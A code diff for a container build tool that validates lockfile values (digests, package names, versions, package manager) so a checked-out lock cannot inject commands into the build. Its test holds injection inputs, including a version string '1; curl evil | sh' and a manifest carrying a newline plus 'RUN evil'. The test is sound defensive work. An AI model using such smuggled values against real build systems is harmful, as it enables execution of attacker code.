@@ -77,6 +77,14 @@ impl Lock {
             path: path.to_path_buf(),
             why: e.message().to_string(),
         })?;
+        // A lock comes with a checkout and is not covered by `nook trust`: it may choose
+        // among versions and digests, never add words to what is built.
+        if let Err(why) = lock.check() {
+            return Err(ProfileError::BadLock {
+                path: path.to_path_buf(),
+                why,
+            });
+        }
         if lock.version != VERSION {
             return Err(ProfileError::BadLock {
                 path: path.to_path_buf(),
@@ -105,6 +113,52 @@ impl Lock {
             path: path.to_path_buf(),
             why: e.to_string(),
         })
+    }
+
+    /// Every value of the lock is of its kind: digests, package names and versions, a known
+    /// package manager.
+    fn check(&self) -> Result<(), String> {
+        let digest = |what: &str, d: &str| {
+            let ok = d
+                .strip_prefix("sha256:")
+                .is_some_and(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit()));
+            if ok {
+                Ok(())
+            } else {
+                Err(format!("{what} {d:?} is not a sha256 digest"))
+            }
+        };
+        digest("profile", &self.profile)?;
+        digest("base manifest", &self.base.manifest)?;
+        if let Some(i) = &self.base.index {
+            digest("base index", i)?;
+        }
+        for p in &self.packages {
+            digest("package key", &p.key)?;
+            if !["", "apt", "apk", "dnf"].contains(&p.manager.as_str()) {
+                return Err(format!(
+                    "package manager {:?} is not apt, apk or dnf",
+                    p.manager
+                ));
+            }
+            for (name, version) in &p.versions {
+                if !super::plan::valid_package(name) || !super::plan::valid_package(version) {
+                    return Err(format!(
+                        "package {name:?} = {version:?} is not a package version"
+                    ));
+                }
+            }
+            if let Some(l) = &p.layer {
+                digest("layer", l)?;
+            }
+        }
+        for s in &self.setup {
+            digest("step key", &s.key)?;
+            if let Some(l) = &s.layer {
+                digest("layer", l)?;
+            }
+        }
+        Ok(())
     }
 
     /// Versions per package set, for the Containerfile.
@@ -172,6 +226,37 @@ impl Lock {
             out.push("the profile's build settings changed".to_string());
         }
         out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_lock_cannot_add_words_to_a_build() {
+        let d = tempfile::tempdir().unwrap();
+        let path = d.path().join("nook.lock");
+        let h = format!("sha256:{}", "a".repeat(64));
+        let good = format!(
+            "version = 1\nprofile = \"{h}\"\n[base]\nimage = \"x\"\nmanifest = \"{h}\"\n\
+             platform = \"linux/amd64\"\n[[packages]]\nfrom = \"debian\"\nmanager = \"apt\"\n\
+             key = \"{h}\"\n[packages.versions]\ngcc = \"4:12.2.0-3\"\n"
+        );
+        std::fs::write(&path, &good).unwrap();
+        assert!(Lock::read(&path).unwrap().is_some());
+        for (from, to) in [
+            ("4:12.2.0-3", "1; curl evil | sh"),
+            ("manager = \"apt\"", "manager = \"sh\""),
+            (
+                &format!("manifest = \"{h}\""),
+                "manifest = \"sha256:abc\\nRUN evil\"",
+            ),
+        ] {
+            std::fs::write(&path, good.replace(from, to)).unwrap();
+            let e = Lock::read(&path).unwrap_err().to_string();
+            assert!(e.contains("is damaged"), "{e}");
+        }
     }
 }
 
